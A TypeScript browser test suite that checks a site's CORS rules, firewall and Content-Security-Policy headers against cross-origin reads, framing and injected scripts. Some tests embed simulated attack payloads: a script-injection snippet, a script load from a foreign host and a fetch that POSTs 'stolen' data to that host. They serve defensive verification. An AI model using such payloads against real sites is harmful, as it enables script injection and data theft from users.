import { deepEqual, equal, match } from "node:assert/strict";
import { describeWithBrowser } from "./describe-with-browser";
import { foreignHost, useCloud, type CloudInUse } from "./use-cloud";

const api = "https://api.dev.example.com/me";
const readsIt = (headers: string) =>
  `fetch("${api}", { headers: ${headers} }).then(({ status }) => "read: " + status, ({ message }) => "withheld: " + message)`;

const calls: Record<string, string> = {
  "a request that needs no preflight": "{}",
  "a request with a token, which a preflight asks for first": '{ Authorization: "Bearer a.b.c" }',
};

const stacks = {
  "the stack": useStack(),
  // What the firewall refuses first, CORS and the back end must refuse by themselves.
  "the stack without its firewalls": useStack("wafv2/webAclAssociation:WebAclAssociation"),
};

function useStack(without?: string) {
  return () =>
    useCloud({ stack: "dev" }, without === undefined ? {} : { change: (stack) => stack.without(without) });
}

for (const [what, use] of Object.entries(stacks)) {
  describeWithBrowser(`somebody else's page in a browser, before ${what}`, () => {
    const there = use();

    for (const [call, headers] of Object.entries(calls)) {
      it(`reads no answer to ${call}`, async () => {
        const page = await there.open(`https://${foreignHost}/`);
        equal(await page.evaluate(readsIt(headers)), "withheld: Failed to fetch");
        await page.close();
      });
    }

    it("is not what the same call fails for on the site", async () => {
      const page = await there.open("https://www.dev.example.com/");
      deepEqual(
        [
          await page.evaluate(readsIt("{}")),
          await page.evaluate(readsIt('{ Authorization: "Bearer a.b.c" }')),
        ],
        ["read: 401", "read: 401"],
      );
      await page.close();
    });
  });
}

describeWithBrowser("somebody else's page in a browser, before an API that lets every origin read", () => {
  const there = useCloud(
    { stack: "dev" },
    {
      change: (stack) =>
        stack.without("wafv2/webAclAssociation:WebAclAssociation").with("apigateway/response:Response", {
          responseParameters: { "gatewayresponse.header.Access-Control-Allow-Origin": "'*'" },
        }),
    },
  );

  it("reads the answer, so that it is the stack that keeps it from that", async () => {
    const page = await there.open(`https://${foreignHost}/`);
    equal(await page.evaluate(readsIt("{}")), "read: 401");
    await page.close();
  });
});

/** Does something in the site's page; tells what its policy stopped, and whether a script has run. */
async function violated(there: CloudInUse, action: string): Promise<unknown> {
  const page = await there.open("https://www.dev.example.com/");
  const directive = await page.evaluate(`new Promise((resolve) => {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => resolve(effectiveDirective));
    setTimeout(() => resolve("nothing"), 2000);
    ${action}
  })`);
  const ran = await page.evaluate("window.injected ?? false");
  await page.close();
  return { directive, ran };
}

const inject =
  'document.body.append(Object.assign(document.createElement("script"), { text: "window.injected = true" }))';
const send = `fetch("https://${foreignHost}/", { method: "POST", body: "stolen" }).catch(() => 0)`;

describeWithBrowser("the site in a browser, attacked", () => {
  const there = useCloud({ stack: "dev" });

  it("runs no script that was injected into its page", async () => {
    deepEqual(await violated(there, inject), { directive: "script-src-elem", ran: false });
  });

  it("loads no script from elsewhere", async () => {
    deepEqual(
      await violated(
        there,
        `document.body.append(Object.assign(document.createElement("script"), { src: "https://${foreignHost}/x.js" }))`,
      ),
      { directive: "script-src-elem", ran: false },
    );
    deepEqual(there.foreignRequests, []);
  });

  it("sends nothing elsewhere", async () => {
    deepEqual(await violated(there, send), {
      directive: "connect-src",
      ran: false,
    });
    deepEqual(there.foreignRequests, []);
  });

  it("shows in no frame of somebody else's page", async () => {
    const page = await there.open(`https://${foreignHost}/`);
    const refusal = page.waitForEvent("console", (message) => message.text().includes("frame-ancestors"));
    await page.evaluate(
      'document.body.append(Object.assign(document.createElement("iframe"), { src: "https://www.dev.example.com/" }))',
    );
    match((await refusal).text(), /frame-ancestors 'none'/);
    await page.close();
  });
});

describeWithBrowser("the site in a browser, attacked without its headers", () => {
  const there = useCloud(
    { stack: "dev" },
    { change: (stack) => stack.with("amplify/app:App", { customHeaders: undefined }) },
  );

  it("runs the script and sends the request, so that it is the policy that keeps it from that", async () => {
    deepEqual(await violated(there, inject), { directive: "nothing", ran: true });
    deepEqual(await violated(there, send), { directive: "nothing", ran: false });
    deepEqual(there.foreignRequests, ["POST /"]);
  });
});
